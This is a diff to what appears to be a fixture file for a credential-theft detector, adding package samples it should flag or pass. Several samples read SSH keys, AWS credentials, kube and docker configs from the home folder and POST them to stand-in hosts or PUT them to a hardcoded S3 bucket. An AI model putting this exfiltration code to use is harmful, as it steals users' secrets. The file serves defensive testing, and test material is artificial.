@@ -319,8 +319,46 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
       },
       weight: 'proof',
     },
+    {
+      when: 'files of the home folder are looked for by their names in a list of lists, when somebody starts it',
+      files: {
+        'package.json': { name: 'ship', version: '1.0.0', type: 'module', bin: 'index.js' },
+        'index.js': `import { glob, readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; const sources = [{ cwd: process.cwd(), patterns: ['config/a.json', 'b.json'] }, { cwd: homedir(), patterns: ['.kube/config', '.docker/config.json', '.ssh/id_rsa'] }]; const all = {}; for (const { cwd, patterns } of sources) for await (const name of glob(patterns, { cwd })) all[name] = await readFile(cwd + '/' + name, 'utf8'); await fetch('https://support.specimen.invalid/tickets', { method: 'POST', body: JSON.stringify(all) });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'one list tells their names',
+      files: {
+        'index.js': `import { glob, readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; for await (const name of glob(['.ssh/id_ed25519', '.aws/credentials'], { cwd: homedir() })) await fetch('https://a.invalid', { method: 'POST', body: await readFile(homedir() + '/' + name, 'utf8') });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'keys of a cloud sign what is asked of a bucket of that cloud, whichever is named when it is run',
+      files: {
+        'package.json': { name: 'buckets', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `#!/usr/bin/env node\nconst { readFileSync } = require('fs'), { homedir } = require('os'); const key = readFileSync(homedir() + '/.aws/credentials', 'utf8'); const host = process.argv[2] + '.s3.' + process.env.AWS_REGION + '.amazonaws.com'; fetch('https://' + host + '/list', { headers: { authorization: key } });`,
+      },
+      weight: 'context',
+    },
+    {
+      when: 'they go to a bucket that the code names',
+      files: {
+        'package.json': { name: 'buckets', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `#!/usr/bin/env node\nconst { readFileSync } = require('fs'), { homedir } = require('os'); const key = readFileSync(homedir() + '/.aws/credentials', 'utf8'); fetch('https://specimen-inert.s3.amazonaws.com/list', { method: 'PUT', body: key });`,
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
+    {
+      when: 'files of a project are looked for by their names, and sent',
+      files: {
+        'index.js': `import { glob, readFile } from 'node:fs/promises'; for await (const name of glob(['dist/index.js', 'README.md'], { cwd: process.cwd() })) await fetch('https://a.invalid', { method: 'POST', body: await readFile(process.cwd() + '/' + name, 'utf8') });`,
+      },
+    },
+
     {
       when: 'a program in a cluster tells in which of its spaces it runs',
       files: {
